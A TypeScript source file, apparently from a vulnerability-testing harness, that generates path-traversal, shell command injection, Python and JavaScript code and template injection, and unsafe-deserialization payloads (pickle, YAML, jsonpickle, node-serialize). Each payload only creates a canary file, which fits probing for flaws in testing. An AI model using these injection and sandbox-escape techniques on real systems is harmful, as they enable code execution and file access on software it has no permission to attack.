import type { Aim } from "./aim.ts";
import { encoded, leaving, percent, percentTwice, sentences } from "./grammar.ts";

const UP = "../".repeat(12);

/** Ways up and ways from the root, in front of the secret's path; filters that take `../` out once leave one behind. */
export function pathPayloads({ secret, siblings }: Aim): string[] {
  const bare = secret.slice(1);
  const climbs = sentences([UP, `x/${UP}`, "....//".repeat(12), "..././".repeat(12), `/${UP}`], bare);
  const [plain = ""] = climbs;
  return [
    ...encoded([plain], percent, percentTwice),
    secret,
    ...climbs.slice(1),
    ...siblings.map((sibling) => `../${sibling.split("/").slice(-2).join("/")}`),
  ];
}

/** A word, what ends it in a shell, and a command behind; within quotes the quote is left first. */
export function commandPayloads({ canary }: Aim): string[] {
  const touch = `touch ${canary}`;
  const bare = `touch\${IFS}${canary}`;
  return [
    ...sentences("x", ["; ", " | ", " && ", " || ", " & ", "\n"], touch, ["", " #"]),
    ...sentences(["", "x"], [`$(${touch})`, `\`${touch}\``, `$(${bare})`]),
    ...leaving(["x'", 'x"', "x\\'"], sentences(["; ", " || "], touch, " #")),
    `x' || ${touch} || '`,
    ...sentences("x", [";", "|", "&&"], [bare, `touch\t${canary}`]),
    `x|tee\${IFS}${canary}`,
  ];
}

export function codePayloads({ canary, language }: Aim): string[] {
  if (language === "python")
    return [
      `__import__("pathlib").Path("${canary}").touch()`,
      `__import__('pathlib').Path('${canary}').touch()`,
      `import pathlib; pathlib.Path("${canary}").touch()`,
      `getattr(__import__("o"+"s"), "mk"+"dir")("${canary}")`,
      `[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["mkdir"]("${canary}")`,
      ...leaving(["1) or ", '"+str(', "'+str("], [`__import__("os").mkdir("${canary}")`], {
        "1) or ": " or (1",
        '"+str(': ')+"',
        "'+str(": ")+'",
      }),
      `'+str(__import__('os').mkdir('${canary}'))+'`,
      `{{ cycler.__init__.__globals__.os.mkdir("${canary}") }}`,
      `{{ ''.__class__.__base__.__subclasses__() | map(attribute='__init__') | list and cycler.__init__.__globals__.os.mkdir("${canary}") }}`,
    ];
  const made = [`process.getBuiltinModule("fs").mkdirSync("${canary}")`, `process.getBuiltinModule('fs').mkdirSync('${canary}')`];
  const [double = "", single = ""] = made;
  return [
    ...made,
    `globalThis["pro"+"cess"].getBuiltinModule("fs").mkdirSync("${canary}")`,
    ...sentences(["this", "[]"], `.constructor.constructor("return process")().getBuiltinModule("fs").mkdirSync("${canary}")`),
    `1);${double};(1`,
    `1;${double}//`,
    `"+${double}+"`,
    `'+${single}+'`,
  ];
}

export function loaderPayloads({ canary, language }: Aim): string[] {
  if (language === "javascript")
    return [
      `{"rce":"_$$ND_FUNC$$_function (){process.getBuiltinModule('fs').mkdirSync('${canary}')}()"}`,
      `process.getBuiltinModule('fs').mkdirSync('${canary}')`,
      `(()=>{process.getBuiltinModule('fs').mkdirSync('${canary}')})()`,
    ];
  const pickled = `cposix\nmkdir\n(V${canary}\ntR.`;
  return [
    ...sentences("!!python/object/", ["apply", "new"], `:os.mkdir ["${canary}"]`),
    ...encoded(
      [pickled],
      (text) => Buffer.from(text).toString("base64"),
      (text) => Buffer.from(text).toString("hex"),
    ),
    `{"py/reduce": [{"py/type": "os.mkdir"}, {"py/tuple": ["${canary}"]}]}`,
  ];
}
